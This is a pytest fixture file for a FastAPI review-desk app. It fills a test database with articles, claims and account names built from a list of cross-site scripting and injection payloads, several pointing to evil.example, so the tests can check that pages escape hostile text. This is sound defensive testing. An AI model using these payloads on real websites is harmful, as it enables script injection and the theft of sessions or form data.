"""A desk on a small store whose texts are hostile, and people who use it."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from argon2 import PasswordHasher
from fastapi import FastAPI
from starlette.testclient import TestClient

from tests.builders import annotated, bundle, finding, verdict
from textmine.records import Annotated, Claim, Finding, Frame, StudyCard
from textmine.review import accounts
from textmine.review.desk import Desk
from textmine.review.web.app import create_app
from textmine.stores.base import open_store

PASSWORD = "correct horse battery"
PEOPLE = {
    "ann": "admin", "bob": "reviewer", "cy": "reviewer", "eve": "adjudicator", "rex": "reader",
    "<img src=x onerror=alert('name')>": "reviewer",
}  # fmt: skip
# What a text may hold to break out of the page it stands in.
ATTACKS = (
    "<script>alert(1)</script>",
    "</mark></p><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=csrf>",
    '<a hx-get="//evil.example" hx-trigger="load">x</a>',
    "</title></textarea></select></style></script><script>alert(1)</script>",
    "\u202e<script>\u2028alert(1)\r\n</script>\x00\ud800",
    "🧬🧬 <b>wide</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
HOSTILE_CLAIM = "K\"><script>alert('claim')</script>/../%2e%2e?x=1&y#z"


def hostile_article(number: int, attack: str) -> Annotated:
    made = annotated(str(100 + number), f"Title {attack}\nVesicles {attack} lowered collagen.")
    card = StudyCard(design="in_vitro", species=(attack,), design_reasons=(attack,))
    return replace(
        made,
        study=card,
        article=replace(made.article, journal=attack, year=2000 + number),
        mentions=tuple(
            replace(m, concepts=tuple(replace(c, name=attack, curie=attack) for c in m.concepts))
            for m in made.mentions
        ),
    )


def write_store(path: Path) -> None:
    """Two articles per attack for a plain claim, and one for a claim with a hostile name."""
    plain = Claim(
        "K1", "Vesicles lower collagen.", frame=Frame(("<b>x</b>",), object=("<i>y</i>",))
    )
    hostile = Claim(HOSTILE_CLAIM, f"Statement {ATTACKS[0]}", section=ATTACKS[2])
    articles = [hostile_article(n, attack) for n, attack in enumerate(ATTACKS)]
    found = [finding(a) for a in articles]
    hostile_found: list[Finding] = [
        replace(f, why=(f"object: {ATTACKS[0]}",))
        for f in (finding(a, claim=hostile.id) for a in articles[:3])
    ]
    verdicts = (
        verdict(found),
        replace(
            verdict(hostile_found),
            claim_id=hostile.id,
            reasons=(ATTACKS[1],),
            warnings=(ATTACKS[2],),
        ),
    )
    with open_store(f"sqlite:///{path}") as store:
        store.push(
            replace(
                bundle("run_1", ()),
                claims=(plain, hostile),
                articles=articles,
                findings=[*found, *hostile_found],
                verdicts=verdicts,
            )
        )


@pytest.fixture(scope="session")
def quick_hashes() -> Iterator[None]:
    """Passwords hashed in a moment: these tests log in hundreds of times."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(accounts, "_hasher", lambda: PasswordHasher(1, 8, 1))
        yield


@pytest.fixture(scope="session")
def desk_template(quick_hashes: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("desk") / "desk.db"
    write_store(path)
    desk = Desk(f"sqlite:///{path}")
    for name, role in PEOPLE.items():
        desk.add_account(None, name, PASSWORD, role)
    desk.close()
    return path


@pytest.fixture
def bare_url(tmp_path: Path) -> str:
    """A store without accounts."""
    write_store(tmp_path / "bare.db")
    return f"sqlite:///{tmp_path / 'bare.db'}"


@pytest.fixture
def desk_url(desk_template: Path, tmp_path: Path) -> str:
    path = tmp_path / "desk.db"
    shutil.copy(desk_template, path)
    return f"sqlite:///{path}"


@pytest.fixture
def desk(desk_url: str) -> Iterator[Desk]:
    opened = Desk(desk_url)
    yield opened
    opened.close()


@pytest.fixture
def app(desk: Desk) -> FastAPI:
    return create_app(desk)


class Person(TestClient):
    """A browser of one person: follows no redirect, and sends the token of the last page."""

    def __init__(self, app: FastAPI, name: str | None = None, password: str = PASSWORD) -> None:
        super().__init__(app, raise_server_exceptions=False, follow_redirects=False)
        self.name = name
        if name is not None:
            answer = self.log_in(name, password)
            assert answer.status_code == 303, answer.text

    def log_in(self, name: str, password: str = PASSWORD, **more: str):  # type: ignore[no-untyped-def]
        token = self.token("/login")
        return self.post("/login", data={"csrf": token, "name": name, "password": password, **more})

    def token(self, page: str = "/help") -> str:
        """The token in the forms of a page."""
        found = re.search(r'name="csrf" value="([^"]+)"', self.get(page).text)
        assert found, f"{page} has no form"
        return found[1]

    def fill(self, path: str, **fields: str):  # type: ignore[no-untyped-def]
        return self.post(path, data={"csrf": self.token(), **fields})

    def findings(self, **query: str) -> list[str]:
        page = self.get("/queue", params={"state": "all", **query}).text
        return re.findall(r'href="/finding/([^"?]+)', page)

    def decide(self, finding: str, verdict: str = "correct", **fields: str):  # type: ignore[no-untyped-def]
        values = {"verdict": verdict, "hash": finding, "key": f"{finding}-{verdict}"}
        return self.fill(f"/finding/{finding}/decide", **{**values, **fields})


@pytest.fixture
def person(app: FastAPI) -> Callable[..., Person]:
    def made(name: str | None = None, password: str = PASSWORD) -> Person:
        return Person(app, name, password)

    return made
